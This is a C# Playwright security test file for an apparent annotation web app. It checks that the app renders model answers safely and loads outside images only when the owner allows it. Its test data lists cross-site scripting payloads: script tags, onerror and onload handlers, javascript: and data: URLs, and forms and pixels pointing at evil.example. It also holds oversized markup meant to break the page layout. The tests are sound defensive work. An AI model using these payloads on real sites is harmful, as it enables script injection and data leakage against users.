using System.Collections.Concurrent;
using Attune.Core.Conversations;
using Attune.Feedback.Labels;
using Attune.Feedback.Projects;
using Attune.Feedback.Storage;
using Microsoft.Playwright;

namespace Attune.Web.Tests.Security;

/// <summary>Answers whose markup would run, fetch or break something: nothing runs, nothing is fetched, the page stays.</summary>
[Collection(nameof(SiteCollection))]
public sealed class HostileMarkupTests(Site site, Chromium chromium)
{
    public static TheoryData<string, string> Attacks =>
        new()
        {
            { "script", "<script>window.hit=1</script>\n\n<script src=https://evil.example/x.js></script>" },
            { "onerror", "<img src=x onerror=\"window.hit=1\"> ![x](x \"\\\" onerror=window.hit=1\")" },
            { "javascript", "[x](javascript:window.hit=1) <a href=\"javascript:window.hit=1\">y</a> <javascript:window.hit=1>" },
            { "svg", "<svg onload=window.hit=1><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>" },
            { "style", "<style>body{display:none}@import url(https://evil.example/a.css)</style><div style=\"position:fixed;inset:0\">" },
            {
                "iframe",
                "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe><object data=https://evil.example></object><embed src=x>"
            },
            { "data", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=) ![x](data:text/html,<script>hit=1</script>)" },
            {
                "pixel",
                "![x](https://evil.example/pixel.png) ![y](http://evil.example/p) "
                    + "![z](//evil.example/p)\n\n![r][r]\n\n[r]: https://evil.example/r"
            },
            {
                "unclosed",
                "</div></main></body><div class=\"bar\"><table><tr><td><form action=https://evil.example><input name=strength value=1>"
            },
            { "nested", new string('>', 10_000) + " deep " + string.Concat(Enumerable.Repeat("<div>", 10_000)) },
            { "table", "|a|b|\n|-|-|\n" + string.Concat(Enumerable.Repeat("|1|2|\n", 9_000)) },
            { "wide", "| " + string.Join(" | ", Enumerable.Repeat("column", 600)) + " |\n|" + string.Concat(Enumerable.Repeat("-|", 600)) },
            { "math", "$\\href{javascript:window.hit=1}{x}$ $\\text{<img src=x onerror=window.hit=1>}$ $$x<script>hit=1</script>$$" },
            { "mathml", "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>" },
            { "code", "```<img src=x onerror=hit=1>\n</code></pre><script>window.hit=1</script>\n```\n\n`</code><script>hit=1</script>`" },
            { "names", "# <a id=main name=main>\n\n<form id=all><input name=submission>" },
            { "long", "**" + new string('W', 20_000) + "** `" + new string('W', 5_000) + "`" },
        };

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Nothing_runs_nothing_is_fetched_and_the_page_keeps_its_layout(string name, string attack)
    {
        var item = new NewItem(
            new ItemContent(new Prompt.Text("**Q** " + attack), [new Candidate("**A**\n\n" + attack), new Candidate("B")])
        );
        var project = await site.ProjectAsync(ProjectKind.Comparison, [item]);
        var anna = await site.PersonAsync(MemberRole.Annotator, project.Id);
        await site.Store.Guidelines.AcknowledgeAsync(project.Id, anna.Id, 1, TestContext.Current.CancellationToken);
        var page = await chromium.OpenAsync(site, anna, "/account");
        var (asked, said) = (new ConcurrentQueue<string>(), new ConcurrentQueue<string>());
        page.Request += (_, request) => asked.Enqueue(request.Url);
        page.Console += (_, message) => said.Enqueue(message.Text);
        await page.GotoAsync($"/work/{project.Id}");
        await page.Keyboard.PressAsync("6");
        await Assertions.Expect(page.Locator("#state")).ToHaveTextAsync("Draft saved");
        await Chromium.ShootAsync(page, "hostile-" + name, full: false);
        Assert.True(await page.EvaluateAsync<bool>("window.hit === undefined"));
        Assert.All(asked, url => Assert.StartsWith(site.Address.ToString(), url, StringComparison.Ordinal));
        // The page's headers had nothing to stop: the markup was tame before.
        Assert.DoesNotContain(said, text => text.Contains("Content Security Policy", StringComparison.Ordinal));
        Assert.Equal(0, await page.Locator("main :is(iframe, object, embed, style, script, base, link, [onerror], [onload])").CountAsync());
        Assert.Equal(
            0,
            await page.Locator(".answer :is(form, input, svg, [style], [id]:not(.badge)), .prompt-box :is(form, input, svg, [style], [id])")
                .CountAsync()
        );
        Assert.Equal(1, await page.Locator("#main").CountAsync());
        Assert.True(await page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= window.innerWidth"));
        // Both answers stand in the page's own columns, and the bar can still be used.
        Assert.True(
            (await page.Locator(".answer.b").BoundingBoxAsync())!.X >= (await page.Locator(".answer.a").BoundingBoxAsync())!.X + 300
        );
        await page.Keyboard.PressAsync("Control+Enter");
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Name = "All done" })).ToBeVisibleAsync();
    }

    [Fact]
    public async Task Images_of_other_servers_are_loaded_only_where_the_owner_allows_it()
    {
        var project = await site.ProjectAsync(ProjectKind.Rating, Site.Items(1, "![a chart](https://images.example/a.png) and **words**"));
        var (manager, anna) = (
            await site.PersonAsync(MemberRole.Manager, project.Id),
            await site.PersonAsync(MemberRole.Annotator, project.Id)
        );
        var settings = await chromium.OpenAsync(site, manager, $"/projects/{project.Id}/settings");
        await Assertions.Expect(settings.GetByLabel("Load images of other servers")).ToHaveCountAsync(0);
        Assert.Equal("Image not loaded: a chart (https://images.example/a.png)", await ShownAsync(project.Id, anna, expect: 0));
        var owner = await chromium.OpenAsync(site, site.Owner, $"/projects/{project.Id}/settings");
        await owner.GetByLabel("Load images of other servers").CheckAsync();
        await owner.GetByRole(AriaRole.Button, new() { Name = "Save" }).ClickAsync();
        Assert.Null(await ShownAsync(project.Id, anna, expect: 1));
        // A manager who saves other settings does not change it.
        await settings.ReloadAsync();
        await settings.GetByRole(AriaRole.Button, new() { Name = "Save" }).ClickAsync();
        Assert.Null(await ShownAsync(project.Id, anna, expect: 1));
    }

    private async Task<string?> ShownAsync(Guid project, Someone who, int expect)
    {
        var page = await chromium.OpenAsync(site, who, "/account");
        var asked = 0;
        await page.RouteAsync(
            "https://images.example/**",
            route =>
            {
                Assert.False(route.Request.Headers.ContainsKey("referer"));
                asked++;
                return route.FulfillAsync(new() { Status = 404 });
            }
        );
        await page.GotoAsync($"/work/{project}");
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
        Assert.Equal(expect, asked);
        var note = page.Locator(".answer .unloaded");
        return await note.CountAsync() == 0 ? null : await note.TextContentAsync();
    }
}
